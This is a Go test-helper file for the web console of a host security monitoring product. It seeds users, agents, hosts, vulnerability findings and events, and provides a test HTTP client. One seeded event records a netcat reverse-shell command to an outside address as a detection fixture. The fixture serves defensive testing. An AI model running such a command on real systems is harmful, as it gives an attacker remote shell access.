package console

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/api"
	"github.com/vigil-sec/vigil/internal/auth"
	"github.com/vigil-sec/vigil/internal/notify"
	"github.com/vigil-sec/vigil/internal/store"
)

// Users seeded in every environment and their passwords.
const (
	adminName, adminPassword       = "root", "admin password 1234"
	analystName, analystPassword   = "ana", "analyst password 1234"
	readonlyName, readonlyPassword = "rita", "readonly password 1234"
)

// tasks records the commands sent to agents.
type tasks struct {
	mu      sync.Mutex
	rescans []string
}

func (t *tasks) Rescan(_ context.Context, id string) error {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.rescans = append(t.rescans, id)
	return nil
}

func (t *tasks) Revoke(context.Context, string) error { return nil }

func (t *tasks) Rescans() []string {
	t.mu.Lock()
	defer t.mu.Unlock()
	return append([]string(nil), t.rescans...)
}

// env is the server's HTTP stack on a real SQLite store: the API at
// /api/, /healthz, and the console for the rest, as internal/server
// mounts them, served on loopback.
type env struct {
	t     testing.TB
	ctx   context.Context
	st    *store.DB
	tasks *tasks
	srv   *httptest.Server
	now   time.Time
}

type envOptions struct {
	// noOverview hides GET /api/v1/overview, as on a server from before
	// that endpoint.
	noOverview bool
}

func newEnv(t testing.TB, o envOptions) *env {
	t.Helper()
	ctx := context.Background()
	st, err := store.Open(ctx, filepath.Join(t.TempDir(), "vigil.db"))
	if err != nil {
		t.Fatalf("open store: %v", err)
	}
	t.Cleanup(func() { st.Close() })
	e := &env{t: t, ctx: ctx, st: st, tasks: &tasks{}, now: time.Now().UTC().Truncate(time.Second)}
	var apiH http.Handler = api.New(api.Options{
		Store: st, Tasks: e.tasks, Version: "test", PasswordParams: &auth.TestParams,
		Throttle:     &auth.ThrottleOptions{},
		AgentInstall: func(tok string) string { return "vigil-agent --server vigil.example:8443 --token " + tok },
		Notifier:     notify.NewDispatcher(st, notify.NewSender(&notify.Options{Attempts: 1, Timeout: 5 * time.Second}), nil),
	})
	if o.noOverview {
		apiH = noOverview{api: apiH}
	}
	mux := http.NewServeMux()
	mux.Handle("/api/", apiH)
	mux.Handle("/healthz", apiH)
	mux.Handle("/", New(Options{API: apiH, Version: "test"}))
	e.srv = httptest.NewServer(mux)
	t.Cleanup(e.srv.Close)
	e.user(adminName, store.RoleAdmin, adminPassword)
	e.user(analystName, store.RoleAnalyst, analystPassword)
	e.user(readonlyName, store.RoleReadOnly, readonlyPassword)
	e.seed()
	return e
}

func (e *env) user(name string, role store.Role, password string) store.User {
	e.t.Helper()
	h, err := auth.NewHasher(&auth.HasherOptions{Params: &auth.TestParams}).Hash(e.ctx, password)
	if err != nil {
		e.t.Fatal(err)
	}
	u, err := e.st.CreateUser(e.ctx, store.User{Name: name, Role: role, PasswordHash: h, CreatedAt: e.now})
	if err != nil {
		e.t.Fatalf("create user %s: %v", name, err)
	}
	return u
}

// Seeded facts tests refer to.
const (
	webAsset    = "host-web"
	dbAsset     = "host-db"
	fleetHosts  = 30 // extra hosts, for pagination
	criticalCVE = "CVE-2026-1111"
)

// seed writes a small estate through the store: three agents (online,
// silent, revoked), hosts with packages, items, containers and images,
// findings of every kind over a week, and events.
func (e *env) seed() {
	e.t.Helper()
	ctx, now := e.ctx, e.now
	agents := []store.Agent{
		{ID: "agent-web", Hostname: "web-1.prod", Version: "0.9.0", AssetID: webAsset, Labels: map[string]string{"env": "prod"}},
		{ID: "agent-db", Hostname: "db-1.prod", Version: "0.9.0", AssetID: dbAsset, Labels: map[string]string{"env": "prod"}},
		{ID: "agent-old", Hostname: "old-1.lab", Version: "0.8.2", AssetID: "host-old"},
	}
	for i, a := range agents {
		a.EnrolledAt, a.LastSeen, a.Heartbeat = now.Add(-72*time.Hour), now.Add(-time.Duration(i)*time.Minute), time.Minute
		a.CertSerial, a.CertNotAfter = "serial-"+a.ID, now.Add(24*time.Hour)
		if _, err := e.st.CreateAgent(ctx, a); err != nil {
			e.t.Fatalf("create agent: %v", err)
		}
	}
	must := func(err error) {
		e.t.Helper()
		if err != nil {
			e.t.Fatal(err)
		}
	}
	must(e.st.AgentHeartbeat(ctx, "agent-web", now, json.RawMessage(`{"spooled":120,"replayed":3,"dropped":0,"cpu_seconds":42.5,"rss_bytes":31457280}`)))
	must(e.st.RevokeAgent(ctx, "agent-old", now.Add(-time.Hour)))
	// agent-db goes silent.
	must(e.st.AgentHeartbeat(ctx, "agent-db", now.Add(-time.Hour), json.RawMessage(`{"cpuSeconds":7.25,"rssBytes":20971520,"spooled":8,"dropped":2}`)))
	if _, err := e.st.SilentAgents(ctx, now); err != nil {
		e.t.Fatal(err)
	}

	host := func(id, name, agentID, cloud, region string, labels map[string]string) store.Asset {
		return store.Asset{ID: id, Kind: store.AssetHost, Name: name, AgentID: agentID, OS: "debian 12", Platform: "linux/amd64",
			Cloud: cloud, Region: region, Labels: labels, FirstSeen: now.Add(-72 * time.Hour), LastSeen: now,
			Attrs: json.RawMessage(`{"kernel":"6.1.0-18-amd64","ips":["10.0.0.5","fd00::5"]}`)}
	}
	_, err := e.st.Ingest(ctx, "agent-web", 1, func(in store.Ingester) error {
		if err := in.UpsertAsset(ctx, host(webAsset, "web-1.prod", "agent-web", "alibaba", "cn-hangzhou", map[string]string{"env": "prod", "team": "shop"})); err != nil {
			return err
		}
		for _, a := range []store.Asset{
			{ID: "container-nginx", Kind: store.AssetContainer, Name: "nginx", AgentID: "agent-web", ParentID: webAsset, FirstSeen: now, LastSeen: now},
			{ID: "image-nginx", Kind: store.AssetImage, Name: "nginx:1.25", AgentID: "agent-web", ParentID: webAsset, FirstSeen: now, LastSeen: now},
		} {
			if err := in.UpsertAsset(ctx, a); err != nil {
				return err
			}
		}
		if err := in.ReplacePackages(ctx, webAsset, []store.Package{
			{AssetID: webAsset, ID: "p-openssl", Name: "openssl", Version: "3.0.11-1~deb12u1", Ecosystem: "Debian:12", PURL: "pkg:deb/debian/openssl@3.0.11-1~deb12u1"},
			{AssetID: webAsset, ID: "p-zlib", Name: "zlib1g", Version: "1:1.2.13.dfsg-1", Ecosystem: "Debian:12"},
			{AssetID: webAsset, ID: "p-bash", Name: "bash", Version: "5.2.15-2+b2", Ecosystem: "Debian:12"},
		}); err != nil {
			return err
		}
		items := []store.Item{
			{AssetID: webAsset, Kind: "process", Key: "1@100", Data: json.RawMessage(`{"pid":1,"ppid":0,"name":"systemd","cmdline":["/sbin/init"],"user":"root","rssBytes":12582912,"state":"S"}`)},
			{AssetID: webAsset, Kind: "process", Key: "812@9000", Data: json.RawMessage(`{"pid":812,"ppid":1,"name":"nginx","cmdline":["nginx: master process"],"user":"root","rssBytes":4194304,"state":"S"}`)},
			{AssetID: webAsset, Kind: "port", Key: "tcp/0.0.0.0/443", Data: json.RawMessage(`{"proto":"tcp","address":"0.0.0.0","port":443,"process":"nginx","pid":812}`)},
			{AssetID: webAsset, Kind: "port", Key: "tcp/0.0.0.0/22", Data: json.RawMessage(`{"proto":"tcp","address":"0.0.0.0","port":22,"process":"sshd","pid":640}`)},
			{AssetID: webAsset, Kind: "user", Key: "root", Data: json.RawMessage(`{"name":"root","uid":0,"gid":0,"home":"/root","shell":"/bin/bash"}`)},
			{AssetID: webAsset, Kind: "user", Key: "deploy", Data: json.RawMessage(`{"name":"deploy","uid":1000,"gid":1000,"home":"/home/deploy","shell":"/bin/bash"}`)},
			{AssetID: webAsset, Kind: "service", Key: "nginx.service", Data: json.RawMessage(`{"name":"nginx.service","path":"/lib/systemd/system/nginx.service","enabled":true,"type":"forking","execStart":["/usr/sbin/nginx"],"description":"A high performance web server"}`)},
		}
		if err := in.ReplaceItems(ctx, webAsset, []string{"process", "port", "user", "service"}, items); err != nil {
			return err
		}
		return in.AddEvents(ctx, []store.Event{
			{AgentID: "agent-web", AssetID: webAsset, Seq: 1, Time: now.Add(-30 * time.Minute), Kind: "process.exec", Severity: "critical",
				Data: json.RawMessage(`{"exe":"/usr/bin/nc","args":["nc","-e","/bin/sh","203.0.113.9","4444"],"ancestors":["systemd","nginx","sh"],"rule":"reverse-shell"}`)},
			{AgentID: "agent-web", AssetID: webAsset, Seq: 1, Time: now.Add(-20 * time.Minute), Kind: "process.exec", Severity: "low",
				Data: json.RawMessage(`{"exe":"/usr/bin/apt-get","args":["apt-get","update"]}`)},
		})
	})
	must(err)
	_, err = e.st.Ingest(ctx, "agent-db", 1, func(in store.Ingester) error {
		if err := in.UpsertAsset(ctx, host(dbAsset, "db-1.prod", "agent-db", "aws", "us-east-1", map[string]string{"env": "prod"})); err != nil {
			return err
		}
		return in.ReplacePackages(ctx, dbAsset, []store.Package{
			{AssetID: dbAsset, ID: "p-openssl", Name: "openssl", Version: "3.0.11-1~deb12u1", Ecosystem: "Debian:12"},
		})
	})
	must(err)
	_, err = e.st.Ingest(ctx, "agent-old", 1, func(in store.Ingester) error {
		for i := 1; i <= fleetHosts; i++ {
			if err := in.UpsertAsset(ctx, host(fmt.Sprintf("host-node-%02d", i), fmt.Sprintf("node-%02d.lab", i), "agent-old", "on-prem", "dc-1", nil)); err != nil {
				return err
			}
		}
		return nil
	})
	must(err)
	must(e.st.AddEvents(ctx, []store.Event{{AgentID: "agent-db", AssetID: dbAsset, Time: now.Add(-10 * time.Minute), Kind: "agent.silent", Severity: "high",
		Data: json.RawMessage(`{"lastSeen":"` + now.Add(-time.Hour).Format(time.RFC3339) + `"}`)}}))

	match := `{"id":"` + criticalCVE + `","aliases":["GHSA-xxxx-yyyy-zzzz","DSA-5999-1"],"summary":"Heap overflow in the TLS handshake of OpenSSL.",` +
		`"cvss":{"version":"3.1","vector":"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H","score":9.8},` +
		`"epss":{"cve":"` + criticalCVE + `","score":0.42,"percentile":0.97},"kev":{"cve":"` + criticalCVE + `","dateAdded":"2026-10-01T00:00:00Z"},` +
		`"fixed":["3.0.15-1~deb12u1"],"risk":{"score":96.5,"reasons":["critical CVSS 9.8","in CISA KEV","EPSS 42%","listening on the network"]}}`
	vuln := func(asset, pkg, version string) []store.Finding {
		return []store.Finding{
			{ID: "f-" + asset + "-crit", PackageID: "p-" + pkg, RuleID: criticalCVE, Severity: "critical", Risk: 96.5,
				Title: criticalCVE + " in " + pkg + " " + version, Package: pkg, PackageVersion: version, FixedVersion: "3.0.15-1~deb12u1", Data: json.RawMessage(match)},
			{ID: "f-" + asset + "-med", PackageID: "p-" + pkg, RuleID: "CVE-2026-2222", Severity: "medium", Risk: 41,
				Title: "CVE-2026-2222 in " + pkg + " " + version, Package: pkg, PackageVersion: version},
		}
	}
	sync := func(asset, kind string, fs []store.Finding, at time.Time) {
		e.t.Helper()
		if _, err := e.st.SyncFindings(ctx, asset, kind, fs, at); err != nil {
			e.t.Fatalf("sync findings: %v", err)
		}
		// The server records the open counts once a day for the trend.
		for d := at; !d.After(now); d = d.Add(24 * time.Hour) {
			must(e.st.RecordTrend(ctx, d))
		}
	}
	sync(webAsset, "vulnerability", append(vuln(webAsset, "openssl", "3.0.11-1~deb12u1"),
		store.Finding{ID: "f-web-zlib", PackageID: "p-zlib", RuleID: "CVE-2026-3333", Severity: "low", Risk: 12, Title: "CVE-2026-3333 in zlib1g", Package: "zlib1g", PackageVersion: "1:1.2.13.dfsg-1"},
	), now.Add(-6*24*time.Hour))
	sync(dbAsset, "vulnerability", vuln(dbAsset, "openssl", "3.0.11-1~deb12u1"), now.Add(-2*24*time.Hour))
	sync(webAsset, "misconfiguration", []store.Finding{
		{ID: "f-web-ssh", RuleID: "SSH-ROOT-LOGIN", Severity: "high", Risk: 70, Title: "SSH permits root login"},
		{ID: "f-web-perm", RuleID: "FILE-PERM-SHADOW", Severity: "medium", Risk: 45, Title: "/etc/shadow is world-readable"},
	}, now.Add(-3*24*time.Hour))
	sync("image-nginx", "secret", []store.Finding{
		{ID: "f-img-key", RuleID: "alibaba-access-key", Severity: "critical", Risk: 90, Title: "Alibaba Cloud AccessKey in /app/config.yaml"},
	}, now.Add(-24*time.Hour))
	must(e.st.SetAssetRisk(ctx, webAsset, 96.5))
	must(e.st.SetAssetRisk(ctx, dbAsset, 96.5))
	must(e.st.SetAssetRisk(ctx, "image-nginx", 90))
}

// noOverview answers GET /api/v1/overview with 404, as a server from
// before that endpoint does, and passes everything else to the API.
type noOverview struct{ api http.Handler }

func (o noOverview) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path == "/api/v1/overview" {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusNotFound)
		w.Write([]byte(`{"error":{"code":"not_found","message":"no such path"}}`))
		return
	}
	o.api.ServeHTTP(w, r)
}

// browser is an HTTP client with a cookie jar that does not follow
// redirects, so tests see them.
type browser struct {
	e      *env
	t      testing.TB
	c      *http.Client
	header http.Header
}

func (e *env) browser() *browser {
	jar, _ := cookiejar.New(nil)
	return &browser{e: e, t: e.t, header: http.Header{}, c: &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error {
		return http.ErrUseLastResponse
	}}}
}

// resp is an answer with its body read.
type resp struct {
	*http.Response
	body string
}

func (b *browser) do(method, path string, form url.Values) resp {
	b.t.Helper()
	var body io.Reader
	if form != nil {
		body = strings.NewReader(form.Encode())
	}
	req, err := http.NewRequest(method, b.e.srv.URL+path, body)
	if err != nil {
		b.t.Fatal(err)
	}
	for k, v := range b.header {
		req.Header[k] = v
	}
	if form != nil {
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	res, err := b.c.Do(req)
	if err != nil {
		b.t.Fatalf("%s %s: %v", method, path, err)
	}
	defer res.Body.Close()
	raw, _ := io.ReadAll(res.Body)
	return resp{res, string(raw)}
}

func (b *browser) get(path string) resp { return b.do(http.MethodGet, path, nil) }

func (b *browser) post(path string, form url.Values) resp { return b.do(http.MethodPost, path, form) }

// page GETs a page and requires 200.
func (b *browser) page(path string) string {
	b.t.Helper()
	r := b.get(path)
	if r.StatusCode != http.StatusOK {
		b.t.Fatalf("GET %s: %d, want 200; location %q\n%s", path, r.StatusCode, r.Header.Get("Location"), r.body)
	}
	return r.body
}

// login signs in and requires the redirect.
func (b *browser) login(name, password string) {
	b.t.Helper()
	r := b.post("/login", url.Values{"name": {name}, "password": {password}})
	if r.StatusCode != http.StatusSeeOther {
		b.t.Fatalf("login %s: %d\n%s", name, r.StatusCode, r.body)
	}
}

var csrfRE = regexp.MustCompile(`name="csrf" value="([^"]+)"`)

// csrf returns the CSRF token of a page.
func (b *browser) csrf(page string) string {
	b.t.Helper()
	m := csrfRE.FindStringSubmatch(page)
	if m == nil {
		b.t.Fatal("no CSRF token on the page")
	}
	return m[1]
}

// signedIn returns a browser signed in as name.
func (e *env) signedIn(name, password string) *browser {
	b := e.browser()
	b.login(name, password)
	return b
}

func itoa(n int64) string { return strconv.FormatInt(n, 10) }
